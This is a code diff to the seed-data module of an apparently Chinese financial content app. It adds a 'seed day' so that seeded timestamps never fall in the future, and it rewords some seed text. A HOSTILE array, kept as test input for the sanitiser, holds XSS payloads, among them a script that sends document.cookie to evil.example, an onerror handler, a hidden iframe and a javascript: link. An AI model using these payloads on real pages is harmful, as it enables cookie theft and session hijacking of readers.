@@ -1,10 +1,11 @@
-import { addDays } from '../../lib/format/date';
+import { addDays, chinaToday } from '../../lib/format/date';
 import type { CalendarCategory, CirclePostType, ItemKind } from '../../lib/content/rules';
 import type { Db } from '../core/types';
 
 /**
  * The content module's deterministic seed (issue 18): id 1 exists for every content route, dates are
- * relative to the market date. Bodies are HTML as an editor writes it, with SPEC §3 tags
+ * relative to the seed day (seedDay: the market date, never so late that a seeded time is still to
+ * come). Every user-visible text passes the moderation rule (lib/moderation). Bodies are HTML as an editor writes it, with SPEC §3 tags
  * (<span data-type="stock|user|topic|link" …>) and — in article 1 and circle post 3 — the kind of
  * hostile markup a compromised editor account or a pasted page brings, to prove the sanitiser.
  * Authors are the live module's teachers (live_teachers ids 1–6; 1–4 licensed 投顾, 5–6 达人).
@@ -38,13 +39,17 @@ const link = (url: string, text: string) => `<span data-type="link" data-url="${
 const figure = (src: string, alt: string, width: number, height: number, caption: string) =>
   `<figure><img src="${src}" alt="${alt}" width="${width}" height="${height}"><figcaption>${caption}</figcaption></figure>`;
 
-/** What a pasted page or a hijacked editor account brings along; none of it may reach a reader. */
+/**
+ * What a pasted page or a hijacked editor account brings along; none of the markup may reach a reader.
+ * The text inside it does reach the reader once the sanitiser has removed the markup, so it is the
+ * article's own closing words, never spam (the moderation rule would refuse 点击领取内部消息).
+ */
 const HOSTILE = [
   '<script>document.location="https://evil.example/steal?c="+document.cookie</script>',
   '<img src="x" onerror="alert(\'xss\')">',
-  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">（以上为转载排版残留）</p>',
+  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">（全文完）</p>',
   '<iframe src="https://evil.example/ad" width="1" height="1"></iframe>',
-  '<p><a href="javascript:alert(1)">点击领取内部消息</a></p>',
+  '<p><a href="javascript:alert(1)">欢迎在评论区交流你的看法。</a></p>',
 ].join('');
 
 export const TOPICS = [
@@ -354,7 +359,7 @@ export const SEED_POSTS: SeedPost[] = [
     type: 'post',
     nickname: '财经小林',
     teacherId: 5,
-    body: '<p>新手提醒：任何“保本高收益”的宣传都要警惕，投资前先做风险测评。</p>',
+    body: '<p>新手提醒：凡是承诺高收益的宣传都要警惕，投资前先做风险测评。</p>',
     images: [{ url: '/live/poster.jpg', width: 1280, height: 720, alt: '投资者教育海报' }],
     stocks: [],
     likes: 256,
@@ -396,16 +401,30 @@ export const SEED_EVENTS: SeedEvent[] = [
   { dayOffset: 10, time: '09:30', category: 'data', title: '11月官方制造业PMI', detail: '统计局公布制造业与非制造业PMI。', importance: 3, stocks: [] },
 ];
 
-const at = (today: string, daysAgo: number, time: string) => `${addDays(today, -daysAgo)}T${time}:00+08:00`;
+const at = (day: string, daysAgo: number, time: string) => `${addDays(day, -daysAgo)}T${time}:00+08:00`;
 
-/** Minutes before the market date's 22:00 (Asia/Shanghai): seeded comments and posts keep their order. */
-function minutesBefore(today: string, minutes: number): string {
-  const base = Date.parse(`${today}T22:00:00+08:00`) - minutes * 60_000;
+/** The seed's "now" is 22:00 (Asia/Shanghai) of its day: every seeded time is at or before it. */
+const SEED_HOUR = 22;
+
+/**
+ * The day the seed is written on: the market date, or the day before the latest 22:00 that has
+ * passed when that is earlier, so nothing seeded is dated after the moment it is first read (a
+ * comment 12 minutes before 22:00 would read as the future at 10:00).
+ */
+export function seedDay(marketDay: string, now: number): string {
+  const lastSeedHour = chinaToday(new Date(now - SEED_HOUR * 3600_000));
+  return lastSeedHour < marketDay ? lastSeedHour : marketDay;
+}
+
+/** Minutes before the seed day's 22:00 (Asia/Shanghai): seeded comments and posts keep their order. */
+function minutesBefore(day: string, minutes: number): string {
+  const base = Date.parse(`${day}T${SEED_HOUR}:00:00+08:00`) - minutes * 60_000;
   const local = new Date(base + 8 * 3600_000).toISOString().slice(0, 19);
   return `${local}+08:00`;
 }
 
-export async function seedContent(db: Db, today: string): Promise<void> {
+export async function seedContent(db: Db, marketDay: string, now: number = Date.now()): Promise<void> {
+  const today = seedDay(marketDay, now);
   const statements: { sql: string; args: (string | number | null)[] }[] = [];
   for (const t of TOPICS) {
     statements.push({ sql: 'INSERT INTO content_topics (id, title, description, cover, base_followers) VALUES (?, ?, ?, ?, ?)', args: [t.id, t.title, t.description, t.cover, t.followers] });
